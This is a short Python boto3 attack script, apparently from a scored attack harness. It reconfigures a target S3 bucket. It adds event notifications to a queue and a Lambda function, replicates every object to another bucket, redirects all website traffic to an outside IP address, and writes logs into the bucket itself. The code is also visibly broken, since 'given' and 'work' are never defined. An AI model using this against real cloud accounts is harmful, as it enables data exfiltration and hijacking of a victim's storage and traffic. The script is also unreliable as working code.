# attack: 26
# does: works, with its bucket told to call functions, queues and topics, to copy itself elsewhere, and to redirect
# run: finished
# earns: 10
# with: work
import boto3

s3 = boto3.client("s3")
arn = "arn:aws:{}:us-east-1:123456789012:{}"
calls = {
    "put_bucket_notification_configuration": {"NotificationConfiguration": {"EventBridgeConfiguration": {}, "QueueConfigurations": [{"QueueArn": arn.format("sqs", "q"), "Events": ["s3:ObjectCreated:*"]}], "LambdaFunctionConfigurations": [{"LambdaFunctionArn": arn.format("lambda", "function:f"), "Events": ["s3:ObjectCreated:*"]}]}},
    "put_bucket_replication": {"ReplicationConfiguration": {"Role": "arn:aws:iam::123456789012:role/r", "Rules": [{"Status": "Enabled", "Priority": 1, "Filter": {"Prefix": ""}, "DeleteMarkerReplication": {"Status": "Disabled"}, "Destination": {"Bucket": "arn:aws:s3:::other"}}]}},
    "put_bucket_website": {"WebsiteConfiguration": {"RedirectAllRequestsTo": {"HostName": "192.0.2.1"}}},
    "put_bucket_logging": {"BucketLoggingStatus": {"LoggingEnabled": {"TargetBucket": given.bucket, "TargetPrefix": "log"}}},
}
for name, words in calls.items():
    try:
        getattr(s3, name)(Bucket=given.bucket, **words)
    except Exception as error:
        print(name, error)
work()
